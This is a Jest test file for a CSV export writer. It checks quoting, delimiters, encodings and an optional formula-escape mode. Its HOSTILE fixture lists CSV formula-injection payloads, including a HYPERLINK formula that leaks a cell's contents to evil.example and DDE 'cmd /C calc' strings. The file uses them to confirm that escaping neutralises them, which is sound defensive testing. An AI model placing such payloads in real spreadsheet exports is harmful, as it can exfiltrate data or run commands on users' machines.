import { parse } from 'csv-parse/sync';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { csvRecords, escapeFormula, writeCsv } from '../../src/export/job/csv-file-writer';
import { LocalExportStore } from '../../src/export/job/export-store';

/** RFC 4180 output, checked by reading it back with a standard parser (csv-parse). */
const AWKWARD = [
  ['plain', 'with,comma', 'with "quotes"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside'],
  ['Ünïcödé — 中文 🚀', ' leading and trailing ', '', '""', 'semi;colon', 'tab\there'],
];

/** Cells a spreadsheet would run as formulas: one per trigger of OWASP's CSV injection page (=, +, -, @, TAB, CR). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+2',
];
/** Numbers and text a spreadsheet reads as such: never escaped. */
const HARMLESS = ['-5', '+1.25', '-2.5e-3', '-.5', '42', 'a=b', ' =1+2', 'x@y.example', ''];

/** One record per batch, to exercise batch boundaries. */
async function* rows(list: string[][]) {
  for (const r of list) yield [r];
}

describe('CSV writing', () => {
  let dir: string;
  let store: LocalExportStore;
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pim-csv-'));
    store = new LocalExportStore(dir);
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  const write = async (name: string, format: Partial<Parameters<typeof writeCsv>[1]> = {}, data = AWKWARD) => {
    const sink = await store.openWrite(name);
    const result = await writeCsv(sink, { delimiter: ',', header: true, quoting: 'minimal', lineEnding: 'LF', encoding: 'UTF-8', ...format },
      ['a', 'b', 'c', 'd', 'e', 'f'], rows(data));
    return { result, bytes: fs.readFileSync(path.join(dir, name)) };
  };

  it('round-trips commas, quotes, CR, LF and non-ASCII text with the defaults', async () => {
    const { result, bytes } = await write('default.csv');
    expect(parse(bytes)).toEqual([['a', 'b', 'c', 'd', 'e', 'f'], ...AWKWARD]);
    expect(result).toEqual({ rows: 2, bytes: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') });
    const text = bytes.toString('utf8');
    expect(text.startsWith('a,b,c,d,e,f\nplain,"with,comma","with ""quotes""","line\nbreak","carriage\rreturn"')).toBe(true);
    expect(text.endsWith('tab\there\n')).toBe(true);
    expect(fs.existsSync(path.join(dir, 'default.csv.partial'))).toBe(false);
  });

  it('honours delimiter, quote-all, CRLF, BOM and no header', async () => {
    const { bytes } = await write('options.csv', { delimiter: ';', quoting: 'all', lineEnding: 'CRLF', encoding: 'UTF-8-BOM', header: false });
    expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
    expect(parse(bytes, { delimiter: ';', bom: true, record_delimiter: '\r\n' })).toEqual(AWKWARD);
    expect(bytes.toString('utf8')).toContain('"plain";"with,comma"');
    expect(bytes.toString('utf8')).toContain('"tab\there"\r\n');
  });

  it('quotes fields holding any allowed delimiter, regex metacharacters included', () => {
    for (const delimiter of [';', '|', '\t', '^', ']', '-', '\\', '.', '$']) {
      const records = [[`a${delimiter}b`, 'plain', `${delimiter}`, ''], ['x', 'y"z', 'line\nbreak', `${delimiter}${delimiter}`]];
      const text = csvRecords({ delimiter, quoting: 'minimal', lineEnding: 'LF' })(records);
      expect(parse(text, { delimiter, relax_quotes: false })).toEqual(records);
      expect(text.split('\n')[0]).toBe(`"a${delimiter}b"${delimiter}plain${delimiter}"${delimiter}"${delimiter}`);
    }
  });

  it('writes only the header for no rows, and drops the partial file when the source fails', async () => {
    const { result, bytes } = await write('empty.csv', {}, []);
    expect([result.rows, bytes.toString()]).toEqual([0, 'a,b,c,d,e,f\n']);
    async function* failing() {
      yield [['1', '2', '3', '4', '5', '6']];
      throw new Error('cursor broke');
    }
    const sink = await store.openWrite('broken.csv');
    await expect(writeCsv(sink, { delimiter: ',', header: true, quoting: 'minimal', lineEnding: 'LF', encoding: 'UTF-8' }, ['a'], failing()))
      .rejects.toThrow('cursor broke');
    expect(fs.readdirSync(dir).filter((f) => f.startsWith('broken'))).toEqual([]);
  });

  describe('formula escape', () => {
    const format = { delimiter: ',', quoting: 'minimal', lineEnding: 'LF' } as const;

    it('by default writes cells that look like formulas exactly as they are (the legacy files stay byte for byte the same)', () => {
      const text = csvRecords(format)([HOSTILE, HARMLESS]);
      expect(text).toBe(
        '"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",=cmd|\' /C calc\'!A0,+1+cmd|\' /C calc\'!A0,-2+3+cmd|\' /C calc\'!A0,'
        + '@SUM(1+1)*cmd|\' /C calc\'!A0,\t=1+2,"\r=1+2"\n'
        + '-5,+1.25,-2.5e-3,-.5,42,a=b, =1+2,x@y.example,\n');
      expect(csvRecords({ ...format, formulaEscape: 'none' })([HOSTILE, HARMLESS])).toBe(text);
      expect(parse(text, { relax_column_count: true })).toEqual([HOSTILE, HARMLESS]);
    });

    it("with quote prefixes every cell starting with =, +, -, @, TAB or CR with ', leaves plain numbers and other text alone, and round-trips", () => {
      for (const quoting of ['minimal', 'all'] as const) {
        for (const delimiter of [',', ';', '\t']) {
          const text = csvRecords({ delimiter, quoting, lineEnding: 'CRLF', formulaEscape: 'quote' })([HOSTILE, HARMLESS]);
          const [hostile, harmless] = parse(text, { delimiter, record_delimiter: '\r\n', relax_column_count: true }) as string[][];
          expect(hostile).toEqual(HOSTILE.map((v) => `'${v}`));
          expect(harmless).toEqual(HARMLESS);
          // What a spreadsheet sees first in every written cell: never a trigger character.
          for (const cell of hostile) expect(cell[0]).toBe("'");
        }
      }
      expect(csvRecords({ ...format, formulaEscape: 'quote' })([["=cmd|' /C calc'!A0", '-5']])).toBe("'=cmd|' /C calc'!A0,-5\n");
      expect(HOSTILE.map(escapeFormula)).toEqual(HOSTILE.map((v) => `'${v}`));
      expect(HARMLESS.map(escapeFormula)).toEqual(HARMLESS);
      expect(['-', '+', '=', '@', '-5-', '1-', '-1e', '--5', '-5 '].map(escapeFormula)).toEqual(["'-", "'+", "'=", "'@", "'-5-", '1-', "'-1e", "'--5", "'-5 "]);
    });

    it('escapes data rows only: the header row is the template\'s own column names, written as configured', async () => {
      const sink = await store.openWrite('escaped.csv');
      await writeCsv(sink, { delimiter: ',', header: true, quoting: 'minimal', lineEnding: 'LF', encoding: 'UTF-8-BOM', formulaEscape: 'quote' },
        ['-id', '=name'], rows([['-7', '=1+2'], ['x', '@me']]));
      const bytes = fs.readFileSync(path.join(dir, 'escaped.csv'));
      expect(bytes.toString('utf8')).toBe("\ufeff-id,=name\n-7,'=1+2\nx,'@me\n");
      expect(parse(bytes, { bom: true })).toEqual([['-id', '=name'], ['-7', "'=1+2"], ['x', "'@me"]]);
    });
  });
});
